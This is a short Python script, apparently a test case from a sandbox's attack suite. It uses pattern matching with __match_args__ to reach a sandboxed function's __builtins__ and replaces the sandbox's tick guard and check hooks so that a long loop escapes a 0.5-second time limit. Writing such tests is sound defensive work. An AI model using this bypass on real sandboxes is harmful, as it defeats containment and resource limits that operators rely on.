# attack: read a sandbox function's __builtins__ via __match_args__ and replace the tick guard
# limits: max_duration=0.5
import abc
class P(abc.ABC):
    __match_args__ = ("__builtins__",)
def f():
    pass
P.register(type(f))
match f:
    case P(b):
        b["__m_tk__"] = map(bool, range(1, 10**15))
        b["__m_chk__"] = lambda: None
total = 0
for i in range(10**7):
    total += 1
print(total)
